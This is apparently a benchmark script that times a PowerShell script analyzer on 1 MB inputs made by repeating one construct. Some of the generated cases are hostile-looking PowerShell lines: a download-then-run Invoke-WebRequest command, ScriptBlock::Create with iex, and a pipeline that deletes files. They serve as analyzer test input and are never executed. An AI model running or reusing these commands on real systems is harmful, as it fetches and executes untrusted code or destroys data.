#!/usr/bin/env python3
"""analyzer-worst.py: the analyzer's time on pathological inputs of the ad-hoc limit (1 MB).

Each input repeats one construct until it is 1 MB (many functions, parameters, keys of one
hashtable, nesting, pipeline stages, ...) and is analysed once by the command line with the
JSON report, as `POST /api/scripts/analyze` does. Prints the seconds of each; the bound the
analyzer keeps is linear work in the input (a quadratic rule shows as seconds here: one
hashtable of 60,000 keys took 5.9 s before its secret check stopped searching the hashtable
for each value).
  usage: bench/analyzer-worst.py [PSSCRIPT_ANALYZE] (default build/src/bin/psscript-analyze)
"""
import os, subprocess, sys, tempfile, time

LIMIT = 1_000_000
CASES = {
    'functions': ('', lambda i: f'function F{i} {{ param($a) $a }}\n', ''),
    'parameters': ('function F { param(\n', lambda i: f'[string]$P{i},\n', '$z) $z }\n'),
    'hashtable keys': ('$h = @{\n', lambda i: f'  k{i} = "v{i}"\n', '}\n'),
    'hashtable secrets': ('$h = @{\n', lambda i: f'  password{i} = "p{i}"\n', '}\n'),
    'one variable': ('', lambda i: f'$x = $x + {i}\n', ''),
    'variables': ('', lambda i: f'$v{i} = {i}\n', ''),
    'aliases in pipelines': ('', lambda i: 'gci | % { rm $_ }\n', ''),
    'pipeline stages': ('Get-Process', lambda i: f' | Where-Object {{ $_ -gt {i} }}', '\n'),
    'members': ('$x', lambda i: f'.P{i}', '\n'),
    'nested script blocks': ('', lambda i: '& { ', ''),
    'nested parentheses': ('$x = ', lambda i: '(', ''),
    'array elements': ('$a = @(', lambda i: f'{i},', '0)\n'),
    'try/catch': ('', lambda i: f'try {{ x{i} }} catch [System.Exception] {{ $_ }}\n', ''),
    'elseif chain': ('if ($x) { y }\n', lambda i: f'elseif ($x -eq {i}) {{ y }}\n', ''),
    'ScriptBlock::Create': ('', lambda i: f'[ScriptBlock]::Create("iex {i}")\n', ''),
    'download then run': ('', lambda i: f'Invoke-WebRequest http://x/{i}.exe -OutFile $f{i}; & $f{i}\n', ''),
    'splatting': ('', lambda i: f'$p{i} = @{{Path="x"}}; Get-Item @p{i}\n', ''),
    'classes': ('', lambda i: f'class C{i} {{ [int]$x; C{i}() {{ }} }}\n', ''),
    'DSC resources': ('Configuration C { Node localhost {\n', lambda i: f'File F{i} {{ DestinationPath = "c:\\x{i}" }}\n', '} }\n'),
    'Get-Variable names': ('', lambda i: f'Set-Variable -Name v{i} -Value 1; Get-Variable v{i}\n', ''),
    'calls between functions': ('', lambda i: f'function F{i} {{ F{i+1} }}\n', ''),
}

def build(head, unit, tail):
    parts, size, i = [head], len(head), 0
    while size + len(tail) < LIMIT - 200:
        s = unit(i)
        parts.append(s)
        size += len(s)
        i += 1
    return ''.join(parts) + tail

def main():
    top = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    exe = sys.argv[1] if len(sys.argv) > 1 else os.path.join(top, 'build/src/bin/psscript-analyze')
    worst = 0.0
    with tempfile.TemporaryDirectory() as d:
        for name, (head, unit, tail) in CASES.items():
            path = os.path.join(d, 'case.ps1')
            with open(path, 'w') as f:
                f.write(build(head, unit, tail))
            t = time.monotonic()
            subprocess.run([exe, '--format', 'json', '--fail-on', 'none', path],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
            e = time.monotonic() - t
            worst = max(worst, e)
            print(f'{name:26s} {e:6.2f} s')
    print(f'worst {worst:.2f} s (1 MB inputs)')

if __name__ == '__main__':
    main()
